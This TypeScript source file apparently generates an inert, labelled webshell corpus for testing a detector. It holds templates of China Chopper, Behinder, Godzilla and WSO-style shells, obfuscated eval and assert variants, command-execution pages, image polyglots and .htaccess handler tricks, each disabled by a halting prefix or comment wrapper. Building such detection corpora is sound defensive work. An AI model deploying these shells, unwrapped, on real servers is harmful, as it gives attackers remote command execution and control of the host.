/**
 * Webshell samples, made inert (test/corpus/README.md says how):
 * - PHP: the file starts with `<?php __halt_compiler();` — PHP stops compiling there, so nothing after
 *   it is ever parsed or run; the structure after it is the real family's.
 * - JSP and ASPX: the whole file is one server-side comment `<%-- … --%>`, never compiled.
 * - Classic ASP: the first statement is `Response.End`, so the page stops before any other code.
 * - Server configuration (.htaccess, .user.ini) is stored as .txt and only labelled with its host path.
 * Keys, passwords and parameter names are random per sample.
 */
import { deflateRawSync } from 'node:zlib';
import type { Rng } from './rng.ts';
import type { Archetype, Sample } from './types.ts';

const PHP_HEAD = '<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>\n';
const jspWrap = (s: string) =>
  `<%-- hegui corpus: inert sample - a JSP comment is never compiled\n${s}\n--%>\n`;
const aspxWrap = (s: string) =>
  `<%-- hegui corpus: inert sample - an ASP.NET server comment is never compiled\n${s}\n--%>\n`;
const aspWrap = (s: string) => `<% Response.End ' hegui corpus: inert sample - the page ends here %>\n${s}\n`;

function param(rng: Rng): string {
  return rng.pick([
    'pass',
    'cmd',
    'x',
    'a',
    'c',
    'z0',
    'chopper',
    'shell',
    'pwd',
    '1',
    'key',
    'img',
    'id',
    rng.word(4),
  ]);
}

function q(rng: Rng): string {
  return rng.pick(["'", '"']);
}

function php(body: string): Sample {
  return { ext: 'php', content: PHP_HEAD + body };
}

function rot13(s: string): string {
  return s.replace(/[A-Za-z]/g, (ch) => {
    const base = ch <= 'Z' ? 65 : 97;
    return String.fromCharCode(((ch.charCodeAt(0) - base + 13) % 26) + base);
  });
}

function b64deflate(s: string): string {
  return deflateRawSync(Buffer.from(s)).toString('base64');
}

/** Harmless filler code so payload blobs have a realistic size. */
function filler(rng: Rng, n: number): string {
  const out: string[] = [];
  for (let i = 0; i < n; i++)
    out.push(
      `function ${rng.word(6)}($${rng.word(3)}){ $r = array(); foreach ($_SERVER as $k => $v) { $r[] = strtoupper($k) . ':' . strlen((string)$v); } return implode(',', $r) . '${rng.word(12)}'; }`,
    );
  return out.join('\n');
}

const A = (
  id: string,
  heldOut: boolean,
  count: number,
  make: (rng: Rng, i: number) => Sample,
): Archetype => ({ id, label: 'webshell', heldOut, count, make });

export const WEBSHELLS: Archetype[] = [
  A('chopper-php', false, 3, (rng) => {
    const p = param(rng);
    const k = q(rng);
    return php(
      rng.pick([
        `<?php @eval($_POST[${k}${p}${k}]);?>`,
        `<?php eval($_REQUEST[${k}${p}${k}]); ?>`,
        `<?php\n@assert($_POST[${k}${p}${k}]);\n?>`,
        `<?php @EVAL ( $_POST [${k}${p}${k}] ) ; ?>`,
        `<?php @eval($_COOKIE[${k}${p}${k}]);`,
      ]),
    );
  }),
  A('chopper-asp', false, 2, (rng) => ({
    ext: rng.pick(['asp', 'asa', 'cer']),
    content: aspWrap(
      rng.pick([
        `<%eval request("${param(rng)}")%>`,
        `<%execute(request("${param(rng)}"))%>`,
        `<%ExecuteGlobal request("${param(rng)}")%>`,
      ]),
    ),
  })),
  A('chopper-aspx', true, 2, (rng) => ({
    ext: 'aspx',
    content: aspxWrap(
      rng.pick([
        `<%@ Page Language="Jscript"%><%eval(Request.Item["${param(rng)}"],"unsafe");%>`,
        `<%@ Page Language="Jscript" validateRequest="false" %><%Response.Write(eval(Request.Item["${param(rng)}"],"unsafe"));%>`,
      ]),
    ),
  })),
  A('antsword-encoded', false, 2, (rng) => {
    const p = rng.chance(0.5) ? `_0x${rng.hex(5)}` : 'ant';
    const v = rng.word(3);
    return php(
      rng.pick([
        `<?php\n$${v} = base64_decode($_POST['${p}']);\n@eval($${v});\n?>`,
        `<?php @eval(@base64_decode($_POST['${p}'])); ?>`,
        `<?php @eval(str_rot13($_POST['${p}'])); ?>`,
        `<?php\n$ant = $_POST['${p}'];\n@eval(hex2bin($ant));\n`,
      ]),
    );
  }),
  A('behinder-php', false, 2, (rng) => {
    const key = rng.hex(16);
    const xor = rng.chance(0.7);
    return php(`<?php
@error_reporting(0);
session_start();
    $key="${key}";
    $_SESSION['k']=$key;
    session_write_close();
    $post=file_get_contents("php://input");
    ${
      xor
        ? `if(!extension_loaded('openssl'))
    {
        $t="base64_"."decode";
        $post=$t($post."");
        for($i=0;$i<strlen($post);$i++) {
                 $post[$i] = $post[$i]^$key[$i+1&15];
                }
    }
    else`
        : ''
    }
    {
        $post=openssl_decrypt($post, "AES128", $key);
    }
    $arr=explode('|',$post);
    $func=$arr[0];
    $params=$arr[1];
    class C{public function __invoke($p) {eval($p."");}}
    @call_user_func(new C(),$params);
?>`);
  }),
  A('behinder-jsp', true, 2, (rng) => ({
    ext: 'jsp',
    content: jspWrap(
      `<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals("POST")){String k="${rng.hex(16)}";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>`,
    ),
  })),
  A('behinder-aspx', false, 2, (rng) => ({
    ext: 'aspx',
    content: aspxWrap(
      `<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","${rng.hex(16)}"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>`,
    ),
  })),
  A('godzilla-php', false, 2, (rng) => {
    const pass = rng.pick(['pass', 'key', rng.word(5)]);
    return php(`<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function encode($D,$K){
    for($i=0;$i<strlen($D);$i++) {
        $c = $K[$i+1&15];
        $D[$i] = $D[$i]^$c;
    }
    return $D;
}
$pass='${pass}';
$payloadName='payload';
$key='${rng.hex(16)}';
if (isset($_POST[$pass])){
    $data=encode(base64_decode($_POST[$pass]),$key);
    if (isset($_SESSION[$payloadName])){
        $payload=encode($_SESSION[$payloadName],$key);
        if (strpos($payload,"getBasicsInfo")===false){
            $payload=encode($payload,$key);
        }
        eval($payload);
        echo substr(md5($pass.$key),0,16);
        echo base64_encode(encode(@run($data),$key));
        echo substr(md5($pass.$key),16);
    }else{
        if (strpos($data,"getBasicsInfo")!==false){
            $_SESSION[$payloadName]=encode($data,$key);
        }
    }
}
`);
  }),
  A('godzilla-jsp', false, 2, (rng) => ({
    ext: 'jsp',
    content: jspWrap(
      `<%! String xc="${rng.hex(16)}"; String pass="${rng.pick(['pass', 'key'])}"; String md5=md5(pass+xc); class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){return super.defineClass(cb, 0, cb.length);} }public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");c.init(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s); }catch (Exception e){return null; }} public static String md5(String s) {String ret = null;try {java.security.MessageDigest m;m = java.security.MessageDigest.getInstance("MD5");m.update(s.getBytes(), 0, s.length());ret = new java.math.BigInteger(1, m.digest()).toString(16).toUpperCase();} catch (Exception e) {}return ret; } %><%try{byte[] data=base64Decode(request.getParameter(pass));data=x(data, false);if (session.getAttribute("payload")==null){session.setAttribute("payload",new X(this.getClass().getClassLoader()).Q(data));}else{request.setAttribute("parameters",data);java.io.ByteArrayOutputStream arrOut=new java.io.ByteArrayOutputStream();Object f=((Class)session.getAttribute("payload")).newInstance();f.equals(arrOut);f.equals(pageContext);response.getWriter().write(md5.substring(0,16));f.toString();response.getWriter().write(base64Encode(x(arrOut.toByteArray(), true)));response.getWriter().write(md5.substring(16));} }catch (Exception e){}%>`,
    ),
  })),
  A('godzilla-aspx', true, 2, (rng) => ({
    ext: 'aspx',
    content: aspxWrap(
      `<%@ Page Language="C#"%><%try { string key = "${rng.hex(16)}"; string pass = "pass"; string md5 = System.BitConverter.ToString(new System.Security.Cryptography.MD5CryptoServiceProvider().ComputeHash(System.Text.Encoding.Default.GetBytes(pass + key))).Replace("-", ""); byte[] data = System.Convert.FromBase64String(Context.Request[pass]); data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length); if (Context.Session["payload"] == null) { Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); ; } else { System.IO.MemoryStream outStream = new System.IO.MemoryStream(); object o = ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY"); o.Equals(Context); o.Equals(outStream); o.Equals(data); o.ToString(); byte[] r = outStream.ToArray(); Context.Response.Write(md5.Substring(0, 16)); Context.Response.Write(System.Convert.ToBase64String(new System.Security.Cryptography.RijndaelManaged().CreateEncryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(r, 0, r.Length))); Context.Response.Write(md5.Substring(16)); } } catch (System.Exception) { }%>`,
    ),
  })),
  A('splice-assert', false, 2, (rng) => {
    const v = rng.word(2);
    return php(
      rng.pick([
        `<?php\n$${v} = 'as'.'se'.'rt';\n$${v}($_REQUEST['${param(rng)}']);\n`,
        `<?php\n$${v}=str_replace('x','','axsxsxexrxt');\n@$${v}($_POST['${param(rng)}']);\n`,
        `<?php\n$${v} = strrev('tressa');\n$${v}(@$_GET['${param(rng)}']);\n`,
      ]),
    );
  }),
  A('chr-chain', true, 2, (rng) => {
    const v = rng.word(3);
    return php(
      `<?php\n$${v} = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);\n$${v}(@$_POST['${param(rng)}']);\n`,
    );
  }),
  A('hex-escapes', false, 2, (rng) => {
    const v = rng.word(3);
    return php(
      rng.pick([
        `<?php\n$${v}="\\x61\\x73\\x73\\x65\\x72\\x74";\n$${v}($_POST['${param(rng)}']);\n`,
        `<?php\n$${v} = "\\163\\171\\163\\164\\145\\155";\n$${v}($_GET['${param(rng)}']);\n`,
      ]),
    );
  }),
  A('base64-name', false, 2, (rng) => {
    const v = rng.word(3);
    return php(
      `<?php\n$${v} = base64_decode(${rng.pick(["'YXNzZXJ0'", "'c3lzdGVt'", '"YXNzZXJ0"'])});\n@$${v}($_REQUEST['${param(rng)}']);\n`,
    );
  }),
  A('gz-blob', true, 2, (rng) => {
    const inner = `${filler(rng, rng.int(6, 12))}\n@eval($_POST['${param(rng)}']);`;
    return php(
      `<?php\n/* ${rng.pick(['cache', 'license', 'wp-core'])} */\neval(gzinflate(base64_decode('${b64deflate(inner)}')));\n`,
    );
  }),
  A('rot13-nested', false, 2, (rng) => {
    const inner = `${filler(rng, rng.int(4, 8))}\nsystem($_GET['${param(rng)}']);`;
    if (rng.chance(0.5)) {
      const v = rng.word(3);
      return php(
        `<?php\n$b = '${b64deflate(inner)}';\n$${v} = str_rot13('tmvasyngr');\neval($${v}(base64_decode($b)));\n`,
      );
    }
    const step2 = deflateRawSync(Buffer.from(rot13(inner), 'latin1')).toString('latin1');
    const blob = Buffer.from(rot13(step2), 'latin1').toString('base64');
    return php(`<?php\neval(str_rot13(gzinflate(str_rot13(base64_decode('${blob}')))));\n`);
  }),
  A('preg-e', false, 2, (rng) =>
    php(
      rng.pick([
        `<?php @preg_replace("/[pageerror]/e",$_POST['${param(rng)}'],"saft"); ?>`,
        `<?php preg_replace('/.*/e', $_REQUEST['${param(rng)}'], ''); ?>`,
      ]),
    ),
  ),
  A('create-function', true, 2, (rng) =>
    php(
      `<?php\n$${rng.word(3)} = create_function('', $_POST['${param(rng)}']);\n$f = create_function('', @$_REQUEST['${param(rng)}']);\n$f();\n`,
    ),
  ),
  A('callback-sinks', false, 3, (rng) =>
    php(
      rng.pick([
        `<?php array_map('assert', array($_POST['${param(rng)}'])); ?>`,
        `<?php array_map($_GET['f'], array($_POST['${param(rng)}'])); ?>`,
        `<?php call_user_func($_GET['f'], $_POST['${param(rng)}']); ?>`,
        `<?php call_user_func_array('assert', array($_REQUEST['${param(rng)}'])); ?>`,
        `<?php $arr = array($_POST['${param(rng)}'] => 1); uasort($arr, $_GET['cb']); ?>`,
        `<?php register_shutdown_function('assert', $_POST['${param(rng)}']); ?>`,
      ]),
    ),
  ),
  A('varfunc-input', false, 2, (rng) =>
    php(
      rng.pick([
        `<?php $_GET['a']($_POST['${param(rng)}']); ?>`,
        `<?php @$_REQUEST['f']($_REQUEST['${param(rng)}']); ?>`,
        `<?php\n$f = $_GET['func'];\n$f($_POST['${param(rng)}']);\n`,
      ]),
    ),
  ),
  A('extract-varfunc', true, 2, (rng) =>
    php(`<?php\n@extract($_REQUEST);\n@$${rng.pick(['a', 'fn', 'x'])}($${rng.pick(['b', 'arg', 'y'])});\n`),
  ),
  A('include-input', false, 2, (rng) =>
    php(
      rng.pick([
        `<?php include('php://input'); ?>`,
        `<?php @include $_FILES['${param(rng)}']['tmp_name']; ?>`,
        `<?php require 'data://text/plain;base64,' . $_POST['${param(rng)}']; ?>`,
      ]),
    ),
  ),
  A('jsp-cmd', false, 2, (rng) => ({
    ext: 'jsp',
    content: jspWrap(
      `<%@ page import="java.io.*" %>\n<%\nString cmd = request.getParameter("${param(rng)}");\nif (cmd != null) {\n  Process p = Runtime.getRuntime().exec(cmd);\n  BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));\n  String line;\n  while ((line = br.readLine()) != null) { out.println(line); }\n}\n%>`,
    ),
  })),
  A('jsp-processbuilder', true, 2, (rng) => ({
    ext: rng.pick(['jsp', 'jspx']),
    content: jspWrap(
      `<%\nString[] c = {"/bin/sh", "-c", request.getParameter("${param(rng)}")};\nProcess p = new ProcessBuilder(c).redirectErrorStream(true).start();\njava.util.Scanner s = new java.util.Scanner(p.getInputStream()).useDelimiter("\\\\A");\nout.print(s.hasNext() ? s.next() : "");\n%>`,
    ),
  })),
  A('jsp-scriptengine', false, 2, (rng) => ({
    ext: 'jsp',
    content: jspWrap(
      `<%@ page import="javax.script.*" %>\n<%\nScriptEngine e = new ScriptEngineManager().getEngineByName("${rng.pick(['js', 'nashorn', 'javascript'])}");\nout.print(e.eval(request.getParameter("${param(rng)}")));\n%>`,
    ),
  })),
  A('asp-wscript', false, 2, (rng) => ({
    ext: 'asp',
    content: aspWrap(
      `<%\nSet o = Server.CreateObject("WScript.Shell")\nc = Request("${param(rng)}")\nSet e = o.Exec("cmd.exe /c " & c)\nResponse.Write e.StdOut.ReadAll()\n%>`,
    ),
  })),
  A('aspx-process', true, 2, (rng) => ({
    ext: 'aspx',
    content: aspxWrap(
      `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + Request["${param(rng)}"]);\n  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n  Process p = Process.Start(psi);\n  Response.Write(p.StandardOutput.ReadToEnd());\n}\n</script>`,
    ),
  })),
  A('image-gif', false, 2, (rng) => ({
    ext: 'gif',
    dir: `uploads/20${rng.int(22, 25)}/${String(rng.int(1, 12)).padStart(2, '0')}`,
    name: rng.word(8),
    content: `GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,${PHP_HEAD}<?php @eval($_POST['${param(rng)}']); ?>`,
  })),
  A('image-png', true, 2, (rng) => ({
    ext: 'png',
    dir: `wp-content/uploads/20${rng.int(22, 25)}/${String(rng.int(1, 12)).padStart(2, '0')}`,
    name: `avatar-${rng.int(1, 999)}`,
    content: Buffer.concat([
      Buffer.from([
        0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0,
        0, 1, 8, 6, 0, 0, 0,
      ]),
      Buffer.from(rng.hex(64), 'hex'),
      Buffer.from(`${PHP_HEAD}<?php system($_GET['${param(rng)}']); ?>`),
    ]),
  })),
  A('image-jpg', false, 2, (rng) => ({
    ext: 'jpg',
    dir: rng.pick(['upload/image', 'data/attachment/forum', 'Public/Uploads']),
    name: `${rng.int(100000, 999999)}`,
    content: Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0, 1]),
      Buffer.from(rng.hex(400), 'hex'),
      Buffer.from(`${PHP_HEAD}<?php $f = $_POST['${param(rng)}']; @eval($f); ?>`),
      Buffer.from([0xff, 0xd9]),
    ]),
  })),
  A('htaccess-handler', false, 2, (rng) => ({
    ext: 'htaccess.txt',
    dir: 'uploads',
    name: 'config',
    content: rng.pick([
      `# hegui corpus sample: configuration text only\nAddType application/x-httpd-php .jpg .gif\n`,
      `# hegui corpus sample: configuration text only\n<FilesMatch "\\.(png|jpg)$">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n`,
      `# hegui corpus sample\nAddHandler php5-script .gif\nphp_value auto_prepend_file /var/www/html/uploads/logo.gif\n`,
    ]),
  })),
  A('userini-prepend', true, 2, (rng) => ({
    ext: 'user.ini.txt',
    name: 'config',
    content: `; hegui corpus sample: configuration text only\nauto_prepend_file=${rng.pick(['/tmp/.sess_' + rng.hex(8), '/var/www/html/uploads/1.gif', 'images/logo.png'])}\n`,
  })),
  A('filemanager-big', false, 2, (rng) =>
    php(`<?php
/* ${rng.pick(['WSO 2.5', 'FilesMan', '大马 v3'])} */
@error_reporting(0);
@set_time_limit(0);
@ignore_user_abort(1);
$default_action = 'FilesMan';
function wsoHeader() { echo '<b>Uname:</b> ' . php_uname() . '<br><b>User:</b> ' . getmyuid() . ' (' . (function_exists('posix_getpwuid') ? posix_getpwuid(posix_geteuid())['name'] : '?') . ')'; echo '<b>Disabled:</b> ' . ini_get('disable_functions'); echo ' Free: ' . disk_free_space('/'); }
function actionFilesMan() { $dir = isset($_POST['c']) ? $_POST['c'] : getcwd(); foreach (scandir($dir) as $f) { echo htmlspecialchars($f) . '<br>'; } if (!empty($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_POST['c'] . '/' . $_FILES['f']['name']); } if (isset($_POST['p1'])) { @chmod($_POST['p1'], 0777); } }
function actionConsole() { if (!empty($_POST['${param(rng)}'])) { echo '<pre>' . shell_exec($_POST['${param(rng)}'] . ' 2>&1') . '</pre>'; } }
wsoHeader();
if (empty($_POST['a'])) $_POST['a'] = $default_action;
call_user_func('action' . $_POST['a']);
`),
  ),
  A('uploader', false, 2, (rng) =>
    php(`<?php
@error_reporting(0);
@set_time_limit(0);
if (isset($_FILES['${param(rng)}'])) {
    $target = $_POST['path'] . '/' . $_FILES['${param(rng)}']['name'];
    if (move_uploaded_file($_FILES['${param(rng)}']['tmp_name'], $_POST['path'] . '/' . $_FILES['${param(rng)}']['name'])) { echo 'ok:' . $target; }
}
if (isset($_POST['fn'])) { file_put_contents($_POST['fn'], $_POST['data']); }
echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input name="path"><input type="submit"></form>';
`),
  ),
  A('password-gated', true, 2, (rng) => {
    const h = rng.hex(32);
    return php(
      `<?php\nif (md5($_POST['pw']) == '${h}') {\n    echo '<pre>';\n    ${rng.pick(['system', 'passthru'])}($_POST['${param(rng)}']);\n    echo '</pre>';\n}\n`,
    );
  }),
  A('weevely-like', false, 2, (rng) => {
    const k = rng.hex(8);
    return php(`<?php
$k="${k}";$kh="${rng.hex(12)}";$kf="${rng.hex(12)}";$p="${rng.word(16)}";
$b=str_replace("w","","bwawsew6w4_dwecwode");
$g=str_replace("Q","","gzQuncoQmQpress");
function x($t,$k){$c=strlen($k);$l=strlen($t);$o="";for($i=0;$i<$l;){for($j=0;($j<$c&&$i<$l);$j++,$i++){$o.=$t[$i]^$k[$j];}}return $o;}
if (@preg_match("/$kh(.+)$kf/",@file_get_contents("php://input"),$m)==1) {
@ob_start();
@eval(@gzuncompress(@x(@base64_decode($m[1]),$k)));
$o=@ob_get_contents();@ob_end_clean();
$r=@base64_encode(@x(@gzcompress($o),$k));
print("$p$kh$r$kf");
}
`);
  }),
  A('halt-offset', false, 2, () =>
    php(`<?php\n$d = file_get_contents(__FILE__);\neval(gzinflate(substr($d, __COMPILER_HALT_OFFSET__)));\n`),
  ),
  A('header-input', true, 2, (rng) =>
    php(
      rng.pick([
        `<?php @eval(base64_decode($_SERVER['HTTP_X_${rng.word(4).toUpperCase()}'])); ?>`,
        `<?php $h = getallheaders(); @eval($h['${rng.pick(['X-Token', 'Cmd', 'X-Data'])}']); ?>`,
      ]),
    ),
  ),
  A('backticks', false, 2, (rng) =>
    php(
      rng.pick([
        `<?php echo \`$_GET[${param(rng)}]\`; ?>`,
        `<?php $c = $_REQUEST['${param(rng)}']; echo "<pre>" . \`$c\` . "</pre>"; ?>`,
      ]),
    ),
  ),
];
